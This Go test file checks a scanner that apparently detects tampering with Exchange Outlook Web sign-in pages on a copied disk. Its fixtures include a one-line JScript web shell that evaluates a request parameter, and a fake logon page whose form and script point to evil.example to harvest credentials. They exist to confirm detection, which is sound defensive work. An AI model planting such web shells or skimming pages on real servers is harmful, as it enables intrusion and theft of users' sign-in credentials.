package main

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/exvet/exvet"
)

// What attackers leave where people sign in is found on a copied disk; what Microsoft's own page says one may change is not.
func TestSignInPages(t *testing.T) {
	d := newDiskCopy(t)
	const auth = `E:\Exchange\FrontEnd\HttpProxy\owa\auth\`
	installed, changed := fixtureTime.AddDate(-1, 0, 0), fixtureTime.AddDate(0, 0, -3)
	for path, text := range map[string]string{
		auth + `errorFE.aspx`:                           "<%@ Page %>",
		auth + `expiredpassword.aspx`:                   "<%@ Page %>",
		auth + `signout.aspx`:                           "<%@ Page %>",
		`E:\Exchange\Bin\EdgeTransport.exe`:             "MZ",
		`E:\Exchange\FrontEnd\HttpProxy\bin\exppw.dll`:  "MZ",
		`C:\inetpub\wwwroot\aspnet_client\system.txt`:   "x",
		`E:\Exchange\FrontEnd\HttpProxy\ecp\auth\x.css`: "a {}",
	} {
		d.write(path, []byte(text))
	}
	age := func(path string, at time.Time) {
		t.Helper()
		name, _ := exvet.FSPath(path)
		d.check(os.Chtimes(filepath.Join(d.top, filepath.FromSlash(name)), at, at))
	}
	d.check(filepath.WalkDir(d.top, func(name string, entry os.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		return os.Chtimes(name, installed, installed)
	}))
	pages := func() []string {
		t.Helper()
		subjects := []string{}
		for _, result := range d.scan(-1, "--rule", "EXV-IIS-050*", "--rule", "EXV-IIS-051*").Results {
			for _, finding := range result.Findings {
				subjects = append(subjects, result.ID+" "+finding.Subject)
			}
		}
		return subjects
	}
	if got := pages(); len(got) > 0 {
		t.Errorf("before: got %q, want nothing", got)
	}
	for path, text := range map[string]string{
		auth + `15.2.1118\themes\resources\logon.css`:                                          `.signInBg { background: url(contoso.png) }`,
		auth + `15.2.1118\themes\resources\olk_logo_white.png`:                                 "PNG",
		`E:\Exchange\ClientAccess\owa\prem\15.2.1118.7\resources\themes\contoso\themeinfo.xml`: "<theme />",
	} {
		d.write(path, []byte(text))
		age(path, changed)
	}
	if got := pages(); len(got) > 0 {
		t.Errorf("documented themes: got %q, want nothing", got)
	}
	for path, text := range map[string]string{
		auth + `shell.aspx`: `<%@ Page Language="JScript"%><%eval(Request.Item["x"],"unsafe");%>`,
		auth + `logon.aspx`: `<form action="https://evil.example/collect"><script src="https://evil.example/k.js"></script></form>`,
		`C:\inetpub\wwwroot\aspnet_client\system_web\x.ashx`: `<%@ WebHandler Language="C#" Class="X" %>`,
	} {
		d.write(path, []byte(text))
		age(path, changed)
	}
	want := []string{
		`EXV-IIS-050 file:C:\inetpub\wwwroot\aspnet_client\system_web\x.ashx`,
		`EXV-IIS-050 file:E:\Exchange\FrontEnd\HttpProxy\owa\auth\shell.aspx`,
		`EXV-IIS-051 file:E:\Exchange\FrontEnd\HttpProxy\owa\auth\logon.aspx`,
		`EXV-IIS-051 file:E:\Exchange\FrontEnd\HttpProxy\owa\auth\shell.aspx`,
		`EXV-IIS-051B file:E:\Exchange\FrontEnd\HttpProxy\owa\auth\logon.aspx`,
	}
	if got := pages(); !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}
